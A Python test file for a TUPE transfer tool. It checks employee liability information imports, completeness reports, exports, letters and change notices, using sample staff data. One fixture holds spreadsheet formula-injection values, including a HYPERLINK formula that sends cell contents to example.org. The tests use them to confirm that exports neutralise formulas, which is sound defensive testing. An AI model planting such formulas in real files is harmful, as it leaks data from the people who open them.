"""The employee liability information (TUPE reg 11): every reg 11(2) item in the staff list,
a completeness check per employee, exports of the transferring employees only, the schedule and
cover letters, changes notified under reg 11(5) and lateness reasons under reg 11(6); and the
ERA 1996 s.1 particulars as in force on the transfer date (SI 2019/731 from 6 April 2020)."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime
from pathlib import Path

import openpyxl
from sqlalchemy.engine import Engine
from sqlmodel import col, select

from tests.conftest import Cli
from tests.letter_fixtures import files_of, flat, letters, outbox, pdf_text
from tests.web_fixtures import WebEnv
from transfer_engine.domain import OrganisationKind
from transfer_engine.engine.create import create_transfer, parse_transfer_create
from transfer_engine.engine.staff import COLUMNS, update_employee
from transfer_engine.letters import service
from transfer_engine.letters.sample_particulars import fill_synthetic
from transfer_engine.rules.eli import ELI_COLUMNS, eli_gaps
from transfer_engine.store.database import read_session, write_session
from transfer_engine.store.liability import EliChange
from transfer_engine.store.organisations import Organisation
from transfer_engine.store.people import Employee
from transfer_engine.store.queries import get_transfer
from transfer_engine.store.register import Letter, LetterStatus
from transfer_engine.store.transfers import AuditEntry

REF = "send-iass-to-wnc"
AS_OF = "2022-09-20"
TODAY = date.fromisoformat(AS_OF)

# Every item of reg 11(2) that the staff list's basics do not hold, as an HR export writes it.
PARTICULARS = {
    "start_date": "2015-04-01",
    "continuous_start": "2012-09-03",
    "pay_scale": "Grade 7, spinal point 23 (sample)",
    "pay_interval": "Monthly",
    "weekly_hours": "37",
    "normal_working_hours": "Monday to Friday, 9am to 5pm (sample)",
    "holiday_entitlement": "26 days plus bank holidays (sample)",
    "holiday_pay": "normal pay (sample)",
    "sick_pay": "Green Book sick pay scheme (sample)",
    "other_paid_leave": "Green Book family leave (sample)",
    "pension": "LGPS member (sample)",
    "other_benefits": "none (sample)",
    "notice_by_employer": "one week per year of service, 4 to 12 weeks (sample)",
    "notice_by_employee": "4 weeks (sample)",
    "contract_term": "permanent (sample)",
    "probation": "6 months, completed (sample)",
    "place_of_work": "Sample House, Northampton (sample)",
    "work_outside_uk": "none (sample)",
    "training_entitlement": "5 days a year (sample)",
    "required_training": "safeguarding, paid by the employer (sample)",
    "disciplinary": "none (sample)",
    "grievances": "none (sample)",
    "claims": "none brought or expected (sample)",
    "collective_agreements": "NJC Green Book (sample)",
}


def _row(ref: str, name: str, *, in_scope: str = "yes", objected_on: str = "",
         born: str = "1980-02-01", **changes: str) -> dict[str, str]:
    row = {"employee_ref": ref, "full_name": name, "role": "Case Officer", "fte": "1.0",
           "weekly_pay": "560.00", "email": "", "date_of_birth": born, "in_scope": in_scope,
           "objected_on": objected_on, **PARTICULARS}
    row.update(changes)
    return row


def _csv(tmp_path: Path, rows: list[dict[str, str]], name: str = "staff.csv") -> Path:
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(rows[0]))
    writer.writeheader()
    writer.writerows(rows)
    path = tmp_path / name
    path.write_text(out.getvalue(), encoding="utf-8")
    return path


def _staff(engine: Engine, ref: str = REF) -> dict[str, Employee]:
    with read_session(engine) as session:
        transfer = get_transfer(session, ref)
        return {e.employee_ref: e for e in session.exec(
            select(Employee).where(Employee.transfer_id == transfer.id)).all()}


def _check(cli: Cli, ref: str = REF, as_of: str = AS_OF) -> tuple[int, dict]:
    import json

    code, out, _ = cli("eli", "check", ref, "--as-of", as_of, "--json", ok=False)
    return code, json.loads(out)


# ---------------------------------------------------------------------------------------------
# The staff list


def test_the_staff_list_takes_every_reg_11_2_item_from_csv_and_xlsx(
        demo: Engine, cli: Cli, tmp_path: Path) -> None:
    assert set(ELI_COLUMNS) <= set(COLUMNS)  # every item has its column in the import
    cli("import-employees", REF, str(_csv(tmp_path, [_row("E001", "Sample One")])), "--replace")
    one = _staff(demo)["E001"]
    assert (one.start_date, one.continuous_start) == (date(2015, 4, 1), date(2012, 9, 3))
    assert one.pay_interval == "monthly" and str(one.weekly_hours) == "37.00"
    assert one.sick_pay == "Green Book sick pay scheme (sample)"
    assert one.claims == "none brought or expected (sample)"

    # The same in a workbook whose cells are typed: dates, numbers, text.
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    header = list(_row("E002", "Sample Two"))
    sheet.append(header)
    values = _row("E002", "Sample Two", pay_interval="four weekly", weekly_hours="22.5")
    typed: dict[str, object] = {**values, "fte": 0.6, "weekly_pay": 336,
                                "date_of_birth": date(1990, 5, 6),
                                "start_date": date(2019, 1, 7), "continuous_start": 43000,
                                "weekly_hours": 22.5}
    sheet.append([typed[h] if typed[h] != "" else None for h in header])
    path = tmp_path / "staff.xlsx"
    book.save(path)
    cli("import-employees", REF, str(path), "--replace")
    two = _staff(demo)["E002"]
    assert two.start_date == date(2019, 1, 7)
    assert two.continuous_start == date(2017, 9, 22)  # Excel serial 43000, a date cell unformatted
    assert two.pay_interval == "four-weekly" and str(two.weekly_hours) == "22.50"
    assert two.collective_agreements == "NJC Green Book (sample)"


def test_bad_eli_cells_are_named_by_row_and_column_and_nothing_is_imported(
        demo: Engine, cli: Cli, tmp_path: Path) -> None:
    before = {r: e.full_name for r, e in _staff(demo).items()}
    rows = [
        _row("E001", "Sample One"),
        _row("E002", "Sample Two", pay_interval="daily"),
        _row("E003", "Sample Three", start_date="2015-04-01", continuous_start="2016-01-01"),
        _row("E004", "Sample Four", weekly_hours="full time"),
        _row("E005", "Sample Five", start_date="2099-01-01"),
        _row("E006", "Sample Six", sick_pay="x" * 501),
        _row("E007", "Sample Seven", weekly_hours="37,5"),
    ]
    code, _, err = cli("import-employees", REF, str(_csv(tmp_path, rows)), "--replace",
                       ok=False)
    message = flat(err)
    assert code == 1 and "nothing was imported" in message
    assert "row 3, column 'pay_interval'" in message
    assert "write weekly, fortnightly, four-weekly or monthly (got 'daily')" in message
    assert "row 4, column 'continuous_start'" in message
    assert "2016-01-01 is after start_date (2015-04-01)" in message
    assert "row 5, column 'weekly_hours'" in message and "e.g. 37 or 22.5" in message
    assert "row 6, column 'start_date'" in message and "in the future" in message
    assert "row 7, column 'sick_pay'" in message and "at most 500 characters" in message
    assert "row 8, column 'weekly_hours'" in message and "full stop" in message
    assert "row 2" not in message  # the good row is not blamed
    assert {r: e.full_name for r, e in _staff(demo).items()} == before


# ---------------------------------------------------------------------------------------------
# Completeness


def test_the_check_names_each_gap_of_each_transferring_employee(
        demo: Engine, cli: Cli, tmp_path: Path) -> None:
    rows = [
        _row("E001", "Sample Complete"),
        _row("E002", "Sample Gaps", sick_pay="", claims="", notice_by_employee=""),
        _row("E003", "Sample No Birth Date", born=""),
        # Not transferring: their gaps are not the ELI's (nor are they exported).
        _row("E004", "Sample Objector", objected_on="2022-09-01", pension="", sick_pay=""),
        _row("E005", "Sample Out Of Scope", in_scope="no", pension=""),
        # Objects only after the date asked about: still transferring then.
        _row("E006", "Sample Later Objector", objected_on="2022-09-19", probation=""),
    ]
    cli("import-employees", REF, str(_csv(tmp_path, rows)), "--replace")

    code, report = _check(cli, as_of="2022-09-10")
    assert code == 1 and report["complete"] is False
    assert report["transferring"] == 4
    gaps = {g["employee_ref"]: [m["column"] for m in g["missing"]] for g in report["employees"]}
    assert gaps == {"E002": ["sick_pay", "notice_by_employee", "claims"],
                    "E003": ["date_of_birth"], "E006": ["probation"]}
    law = {m["column"]: m["regulation"] for g in report["employees"] for m in g["missing"]}
    assert law["sick_pay"] == "reg 11(2)(b), ERA 1996 s.1(4)(d)(ii)"
    assert law["claims"] == "reg 11(2)(d)"

    _, text, _ = cli("eli", "check", REF, "--as-of", "2022-09-10", ok=False)
    assert "3 of 4 employees transferring as of 2022-09-10 lack ELI particulars" in flat(text)
    assert "sick leave and sick pay" in text and "E003" in text

    # After the later objection, that employee's gap is no longer the ELI's.
    _, later = _check(cli, as_of=AS_OF)
    assert later["transferring"] == 3
    assert {g["employee_ref"] for g in later["employees"]} == {"E002", "E003"}

    complete = [_row("E001", "Sample Complete"), _row("E002", "Sample Gaps")]
    cli("import-employees", REF, str(_csv(tmp_path, complete)), "--replace")
    code, report = _check(cli)
    assert code == 0 and report["complete"] is True and report["employees"] == []
    _, text, _ = cli("eli", "check", REF, "--as-of", AS_OF)
    assert "complete for all 2 transferring employees" in flat(text)


def test_the_seed_transfers_carry_a_complete_synthetic_eli(demo: Engine) -> None:
    with read_session(demo) as session:
        for ref in ("ld-to-nct", "send-iass-to-wnc", "acsws-to-schools/school-05"):
            transfer = get_transfer(session, ref)
            report = eli_gaps(session, transfer, as_of=TODAY)
            assert report.complete, (ref, report.summary())
            staff = session.exec(select(Employee)
                                 .where(Employee.transfer_id == transfer.id)).all()
            assert staff and all(e.synthetic for e in staff)
            assert all("(sample)" in (e.pension or "") and "(sample)" in (e.pay_scale or "")
                       for e in staff)


# ---------------------------------------------------------------------------------------------
# Exports


def _mixed_staff(cli: Cli, tmp_path: Path) -> None:
    rows = [
        _row("E001", '=HYPERLINK("http://example.org/?leak="&A1,"Click")',
             pay_scale="+44 Grade 7 (sample)"),
        _row("E002", "Sample Transferring Two", grievances="@SUM(A1:A9)"),
        _row("E003", "Sample Objector Zed", objected_on="2022-09-01",
             date_of_birth="1961-01-01", sick_pay="Objector sick pay terms"),
        _row("E004", "Sample Out Of Scope Quill", in_scope="no",
             sick_pay="Out of scope sick pay terms"),
    ]
    cli("import-employees", REF, str(_csv(tmp_path, rows)), "--replace")


def test_the_export_holds_only_transferring_employees_and_every_reg_11_2_column(
        demo: Engine, cli: Cli, tmp_path: Path) -> None:
    _mixed_staff(cli, tmp_path)
    out_csv, out_xlsx = tmp_path / "eli.csv", tmp_path / "eli.xlsx"
    cli("eli", "export", REF, "--format", "csv", "--out", str(out_csv), "--as-of", AS_OF)
    cli("eli", "export", REF, "--format", "xlsx", "--out", str(out_xlsx), "--as-of", AS_OF)

    text = out_csv.read_text(encoding="utf-8")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [r["employee_ref"] for r in rows] == ["E001", "E002"]
    assert set(ELI_COLUMNS) <= set(rows[0])
    assert rows[0]["start_date"] == "2015-04-01" and rows[0]["age"] == "42"
    assert rows[1]["claims"] == "none brought or expected (sample)"
    for leaked in ("Objector", "Out Of Scope", "E003", "E004", "1961-01-01"):
        assert leaked not in text
    # Formulas typed into the HR export stay text.
    assert rows[0]["full_name"].startswith("'=HYPERLINK(")
    assert rows[0]["pay_scale"] == "'+44 Grade 7 (sample)"
    assert rows[1]["grievances"] == "'@SUM(A1:A9)"
    for row in csv.reader(io.StringIO(text)):
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)

    book = openpyxl.load_workbook(out_xlsx)
    sheet = book["ELI"]
    table = [list(r) for r in sheet.iter_rows(values_only=True)]
    header = table[0]
    assert set(ELI_COLUMNS) <= set(header)
    body = [dict(zip(header, r, strict=True)) for r in table[1:]]
    assert [r["employee_ref"] for r in body] == ["E001", "E002"]
    started = body[0]["start_date"]
    assert isinstance(started, datetime) and started.date() == date(2015, 4, 1)  # a date cell
    assert str(body[0]["full_name"]).startswith("'=HYPERLINK(")
    assert all(c.data_type != "f" for r in sheet.iter_rows() for c in r)  # no formula cell
    cells = " ".join(str(c) for r in table for c in r if c is not None)
    for leaked in ("Objector", "Out Of Scope", "E003", "E004"):
        assert leaked not in cells
    legend = {r[0]: r for r in book["Columns"].iter_rows(values_only=True) if r and r[0]}
    assert legend["sick_pay"][2] == "reg 11(2)(b), ERA 1996 s.1(4)(d)(ii)"

    with read_session(demo) as session:
        exported = session.exec(select(AuditEntry).where(
            AuditEntry.action == "eli-exported")).all()
    assert [e.data for e in exported] == [{"rows": 2}, {"rows": 2}]


def test_the_web_and_api_downloads_hold_only_transferring_employees(web: WebEnv) -> None:
    ld = web.ids["ld-to-nct"]
    update_employee("ld-to-nct", "LD-006", in_scope=True, objected_on=date(2022, 9, 15),
                    actor="test", today=date(2022, 9, 16), engine=web.engine)
    officer = web.as_role("hr_officer")
    response = officer.get(f"/transfers/{ld}/employees/eli.xlsx")
    assert response.status_code == 200
    assert "attachment" in response.headers["content-disposition"]
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    refs = [r[0] for r in book["ELI"].iter_rows(min_row=2, values_only=True)]
    assert refs == [f"LD-00{n}" for n in range(1, 6)]  # LD-006 objected

    api = web.api("officer@example.org")
    report = api.get(f"/api/v1/transfers/{ld}/eli").json()
    assert report["complete"] is True and report["transferring"] == 5
    download = api.get(f"/api/v1/transfers/{ld}/eli/export", params={"format": "csv"})
    assert download.status_code == 200 and download.headers["content-type"].startswith(
        "text/csv")
    assert "LD-006" not in download.text and "LD-005" in download.text
    assert web.browser("viewer@example.org").get(
        f"/transfers/{ld}/employees/eli.xlsx").status_code == 403
    assert web.api("viewer@example.org").get(f"/api/v1/transfers/{ld}/eli").status_code == 403


# ---------------------------------------------------------------------------------------------
# The letters


def test_the_schedule_carries_every_item_and_the_cover_claims_only_what_is_complete(
        demo: Engine, cli: Cli) -> None:
    with read_session(demo) as session:
        employee = _staff(demo, "ld-to-nct")["LD-004"]
        pdf, _, _ = service.preview_file(session, "ld-to-nct", "eli-schedule", "LD-004",
                                         today=TODAY)
    text = pdf_text(pdf)
    for value in (employee.sick_pay, employee.notice_by_employee, employee.pension,
                  employee.training_entitlement, employee.claims, employee.grievances,
                  employee.collective_agreements, employee.place_of_work):
        assert value and flat(value) in text, value
    assert "regulation 11(2)(c)" in text and "regulation 11(2)(e)" in text
    for day in (employee.start_date, employee.continuous_start):
        assert day is not None and f"{day.day} {day:%B %Y}" in text

    with write_session(demo) as session:
        gap = session.exec(select(Employee).where(Employee.employee_ref == "LD-004")).one()
        gap.sick_pay = None
        session.add(gap)
    with read_session(demo) as session:
        cover = pdf_text(service.preview_file(session, "ld-to-nct", "eli-cover",
                                              today=TODAY)[0])
    assert "For 1 of these employees some of the information listed below is not yet " \
           "complete" in cover
    assert "sent to you with this letter" not in cover
    code, _, err = cli("letters", "issue", "ld-to-nct", "eli-schedule", "--as-of", AS_OF,
                       ok=False)
    assert code == 1 and "missing employee.sick_pay" in flat(err)
    assert "import the staff list with a sick_pay column" in flat(err)
    assert letters(demo, letter="eli-schedule") == []


def test_a_late_eli_needs_a_reason_and_prints_it(demo: Engine, cli: Cli) -> None:
    late = "2022-10-10"  # the ELI for a transfer on 1 November 2022 was due by 4 October
    code, _, err = cli("letters", "issue", "ld-to-nct", "eli-cover", "--as-of", late, ok=False)
    message = flat(err)
    assert code == 1 and "nothing was issued" in message
    assert "transfer.eli_late_reason" in message and "reg 11(6)" in message
    assert "special circumstances" in message
    assert letters(demo) == []
    # On time, no reason is asked for.
    assert "special circumstances" not in flat(cli("letters", "preview", "ld-to-nct",
                                                   "eli-cover", "--as-of", AS_OF)[1])

    code, _, err = cli("eli", "late-reason", "ld-to-nct", "--reason", "late", ok=False)
    assert code == 1 and "at least 10 characters" in err

    reason = "the payroll system failed for three weeks in September (sample)"
    cli("eli", "late-reason", "ld-to-nct", "--reason", reason)
    cli("letters", "issue", "ld-to-nct", "eli-cover", "--as-of", late)
    cli("letters", "issue", "ld-to-nct", "eli-schedule", "--as-of", late)
    cover = letters(demo, letter="eli-cover")[0]
    text = pdf_text((Path("letters") / files_of(demo, cover.id)["pdf"].path).read_bytes())
    assert "This letter is sent after that date because of these special circumstances" in text
    assert reason in text and "the reason is recorded" not in text
    schedule = letters(demo, letter="eli-schedule")[0]
    assert reason in pdf_text((Path("letters") / files_of(demo, schedule.id)["pdf"].path)
                              .read_bytes())
    with read_session(demo) as session:
        recorded = session.exec(select(AuditEntry).where(
            AuditEntry.action == "eli-late-reason")).one()
    assert recorded.data == {"reason": reason}


def _reimport(cli: Cli, engine: Engine, tmp_path: Path, **changes: dict[str, str]) -> None:
    """The staff list as it stands, exported from HR again with ``changes`` by employee."""
    rows = []
    for ref, employee in sorted(_staff(engine, "ld-to-nct").items()):
        row = {c: getattr(employee, c) for c in COLUMNS}
        row = {c: ("yes" if v is True else "no" if v is False else "" if v is None else str(v))
               for c, v in row.items()}
        row.update(changes.get(ref, {}))
        rows.append(row)
    cli("import-employees", "ld-to-nct", str(_csv(tmp_path, rows)), "--replace")


def _notice_text(engine: Engine, letter: Letter) -> str:
    return flat((Path("letters") / files_of(engine, letter.id)["txt"].path)
                .read_text(encoding="utf-8"))


def test_a_change_after_the_eli_was_given_is_notified_in_writing(
        demo: Engine, cli: Cli, tmp_path: Path) -> None:
    # Before the ELI is given a change is simply in it: nothing to notify.
    _reimport(cli, demo, tmp_path, **{"LD-001": {"pension": "Opted out of LGPS (sample)"}})
    assert cli.json("eli", "changes", "ld-to-nct") == []

    cli("letters", "issue", "ld-to-nct", "eli-cover", "--as-of", AS_OF)
    cli("letters", "issue", "ld-to-nct", "eli-schedule", "--as-of", AS_OF)
    given = _staff(demo, "ld-to-nct")
    update_employee("ld-to-nct", "LD-006", in_scope=True, objected_on=date(2022, 9, 21),
                    actor="test", today=date(2022, 9, 21), engine=demo)
    _reimport(cli, demo, tmp_path, **{"LD-002": {
        "sick_pay": "Six months' full pay (sample)",
        "grievances": "Grievance about rotas, 12 September 2022, upheld (sample)"}})

    changes = cli.json("eli", "changes", "ld-to-nct")
    assert {(c["employee_ref"], c["item"], c["before"], c["after"]) for c in changes} == {
        ("LD-002", "sick_pay", given["LD-002"].sick_pay, "Six months' full pay (sample)"),
        ("LD-002", "grievances", given["LD-002"].grievances,
         "Grievance about rotas, 12 September 2022, upheld (sample)"),
        ("LD-006", "transferring", "yes", "no"),
    }
    with read_session(demo) as session:
        changed = session.exec(select(AuditEntry).where(AuditEntry.action == "eli-changed")
                               .order_by(col(AuditEntry.id))).all()
    assert [e.data["employee_refs"] for e in changed] == [["LD-006"], ["LD-002"]]
    assert "Six months" not in str([e.data for e in changed])  # values stay out of the log

    cli("eli", "notify-changes", "ld-to-nct", "--as-of", "2022-09-22")
    (notice,) = letters(demo, letter="eli-change")
    assert notice.recipient_ref == "transferee" and notice.letter_date == date(2022, 9, 22)
    text = _notice_text(demo, notice)
    assert "regulation 11(5)" in text and "3 change(s)" in text
    assert "Employee LD-002" in text and "Six months' full pay (sample)" in text
    assert "Grievance about rotas" in text
    assert "Employee LD-006" in text and "no longer transfers to you" in text
    # Nothing else about an employee who no longer transfers.
    assert given["LD-006"].full_name not in text
    assert {m.recipient for m in outbox(demo) if m.letter_id == notice.id} == \
        {"hr.nct@example.org"}
    assert cli.json("eli", "changes", "ld-to-nct") == []
    _, out, _ = cli("eli", "notify-changes", "ld-to-nct", "--as-of", "2022-09-22")
    assert "nothing issued" in out and len(letters(demo, letter="eli-change")) == 1

    # A later change makes a second notice; the first still stands.
    _reimport(cli, demo, tmp_path, **{"LD-003": {"place_of_work": "Sample Hub (sample)"}})
    cli("eli", "notify-changes", "ld-to-nct", "--as-of", "2022-09-26")
    first, second = letters(demo, letter="eli-change")
    assert first.status == LetterStatus.issued and second.supersedes_id is None
    assert "Sample Hub (sample)" in _notice_text(demo, second)
    assert "Six months" not in _notice_text(demo, second)
    with read_session(demo) as session:
        told = set(session.exec(select(EliChange.notified_in)).all())
    assert told == {first.id, second.id}


# ---------------------------------------------------------------------------------------------
# ERA 1996 s.1 as in force on the transfer date


# What SI 2019/731 added to ERA 1996 s.1 from 6 April 2020: a staff list kept before then has
# no column for them.
ADDED_IN_2020 = ["other_paid_leave", "other_benefits", "probation", "training_entitlement",
                 "required_training"]


def _transfer_on(cli: Cli, tmp_path: Path, ref: str, transfer: date,
                 probation: str = "") -> None:
    """A sample transfer on ``transfer``, its staff list without the items added in 2020 (but
    for E002's ``probation``, when given)."""
    with write_session() as session:
        for slug, name, kind in (("sample-council", "Sample Council (sample)", "council"),
                                 ("sample-trust", "Sample Trust (sample)", "trust")):
            if session.exec(select(Organisation).where(Organisation.slug == slug)).first():
                continue
            session.add(Organisation(slug=slug, name=name, kind=OrganisationKind(kind)))
    with write_session() as session:
        create_transfer(session, parse_transfer_create({
            "ref": ref, "title": "Sample service (sample)", "workflow_id": "tupe-base",
            "regime": "TUPE", "regime_reason": "the service moves to the trust (sample)",
            "transferor": "sample-council", "transferee": "sample-trust",
            "key_dates": {"decision": date(2020, 1, 6), "transfer": transfer},
            "hr_owner": "hr@example.org", "sample_data": True}), actor="test")
    with write_session() as session:
        fill_synthetic(session, get_transfer(session, ref), actor="test")  # the letterheads
    rows = [{c: v for c, v in _row(r, n).items() if c not in ADDED_IN_2020}
            for r, n in (("E001", "Sample One"), ("E002", "Sample Two"))]
    if probation:
        rows[0]["probation"], rows[1]["probation"] = "", probation
    cli("import-employees", ref, str(_csv(tmp_path, rows, f"{ref}.csv")), "--replace")


def _eli_step(cli: Cli, ref: str, as_of: str) -> dict:
    return next(r for r in cli.json("timeline", ref, "--as-of", as_of) if r["step"] == "eli")


def test_the_particulars_added_in_2020_are_not_needed_for_a_transfer_before_6_april_2020(
        database: Engine, cli: Cli, tmp_path: Path) -> None:
    _transfer_on(cli, tmp_path, "before-2020", date(2020, 4, 5))
    _transfer_on(cli, tmp_path, "from-2020", date(2020, 4, 6))

    code, before = _check(cli, "before-2020", as_of="2020-03-02")
    assert code == 0 and before["complete"] is True and before["employees"] == []
    assert [i["column"] for i in before["not_required"]] == ADDED_IN_2020
    _, text, _ = cli("eli", "check", "before-2020", "--as-of", "2020-03-02")
    assert "complete for all 2 transferring employees" in flat(text)
    assert "not required for a transfer on 2020-04-05: other paid leave" in flat(text)
    assert "SI 2019/731" in flat(text)

    code, after = _check(cli, "from-2020", as_of="2020-03-02")
    assert code == 1 and after["complete"] is False and after["not_required"] == []
    assert {g["employee_ref"]: [m["column"] for m in g["missing"]]
            for g in after["employees"]} == {"E001": ADDED_IN_2020, "E002": ADDED_IN_2020}
    _, text, _ = cli("eli", "check", "from-2020", "--as-of", "2020-03-02", ok=False)
    assert "probationary period" in text and "not required" not in text

    # The workbook's legend says which items the law did not ask for then.
    out = tmp_path / "eli.xlsx"
    cli("eli", "export", "before-2020", "--format", "xlsx", "--out", str(out), "--as-of",
        "2020-03-02")
    legend = {r[0]: r for r in openpyxl.load_workbook(out)["Columns"].iter_rows(
        values_only=True) if r and r[0]}
    assert legend["probation"][2] == ("reg 11(2)(b), ERA 1996 s.1(4)(ga), not required for a "
                                      "transfer before 2020-04-06 (SI 2019/731)")
    assert legend["sick_pay"][2] == "reg 11(2)(b), ERA 1996 s.1(4)(d)(ii)"


def test_the_eli_step_is_done_without_them_before_6_april_2020_and_not_from_then(
        database: Engine, cli: Cli, tmp_path: Path) -> None:
    # A value given anyway (E002's probation) is still given.
    _transfer_on(cli, tmp_path, "before-2020", date(2020, 4, 5),
                 probation="6 months, completed (sample)")
    _transfer_on(cli, tmp_path, "from-2020", date(2020, 4, 6))

    # Before: the schedules do not present the items as missing, and the cover letter does
    # not say that any schedule waits for them.
    _, preview, _ = cli("letters", "preview", "before-2020", "eli-schedule", "--recipient",
                        "employee:E001", "--as-of", "2020-03-02")
    assert "not recorded" not in preview and "Other paid leave" not in preview
    assert "Sick leave and sick pay" in preview
    _, cover, _ = cli("letters", "preview", "before-2020", "eli-cover", "--as-of", "2020-03-02")
    assert "sent to you with this letter" in flat(cover) and "not yet complete" not in cover

    cli("letters", "issue", "before-2020", "eli-schedule", "--as-of", "2020-03-02")
    eli = _eli_step(cli, "before-2020", "2020-03-02")
    assert (eli["status"], eli["done_on"]) == ("done", "2020-03-02")
    assert "every reg 11(2) item stated" in eli["evidence"]
    with_probation = next(s for s in letters(database, letter="eli-schedule")
                          if s.about_ref == "employee:E002")
    text = _notice_text(database, with_probation)
    assert "Probationary period" in text and "6 months, completed (sample)" in text
    assert "Training entitlement" not in text

    # From 6 April 2020 they are owed: the schedules are refused, naming them, and the step
    # stays open with the gaps named.
    for command in ("preview", "issue"):
        code, _, err = cli("letters", command, "from-2020", "eli-schedule", "--as-of",
                           "2020-03-02", ok=False)
        assert code == 1 and "ELI for E001: missing employee.other_benefits" in flat(err)
        for column in ADDED_IN_2020:
            assert f"import the staff list with a {column} column" in flat(err), column
    assert {s.transfer_id for s in letters(database, letter="eli-schedule")} == \
        {with_probation.transfer_id}
    assert _eli_step(cli, "from-2020", "2020-03-02")["status"] == "open"
    evidence = next(r for r in cli.json("evidence", "from-2020") if r["step"] == "eli")
    assert ("E001 (other paid leave, other benefits, probationary period, training "
            "entitlement, training the employee must complete)") in evidence["missing"]


def test_the_eli_page_and_the_api_do_not_ask_for_them_before_6_april_2020(
        web: WebEnv, cli: Cli, tmp_path: Path) -> None:
    _transfer_on(cli, tmp_path, "before-2020", date(2020, 4, 5))
    with read_session(web.engine) as session:
        before = get_transfer(session, "before-2020").id
    page = flat(web.as_role("hr_admin").get(f"/transfers/{before}/eli").text)
    assert "Complete for all 2 transferring employees." in page
    assert ("Not needed for a transfer on 5 April 2020: other paid leave, other benefits, "
            "probationary period, training entitlement, training the employee must complete. "
            "Section 1 of the Employment Rights Act 1996 asks for them only from 6 April 2020 "
            "(SI 2019/731).") in page
    report = web.api("admin@example.org").get(f"/api/v1/transfers/{before}/eli").json()
    assert report["complete"] is True and report["transfer_date"] == "2020-04-05"
    # The seed transfers (from 2022) are asked for every item, and the page says nothing more.
    assert "Not needed for a transfer" not in web.as_role("hr_admin").get(
        f"/transfers/{web.ids['ld-to-nct']}/eli").text
